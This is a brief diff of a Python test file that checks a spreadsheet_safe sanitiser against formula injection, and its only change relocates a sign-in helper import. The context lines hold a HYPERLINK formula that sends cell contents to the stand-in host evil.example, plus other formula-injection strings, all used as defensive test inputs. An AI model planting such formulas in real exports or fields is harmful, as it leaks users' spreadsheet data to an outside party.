@@ -9,7 +9,7 @@ import json
 import pytest
 
 from eakte.services.audit_queries import spreadsheet_safe
-from tests.web.test_sign_in import sign_in
+from tests.web.support import sign_in
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
 HOSTILE_NAMES = [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(1)"]  # the form strips tabs and CRs
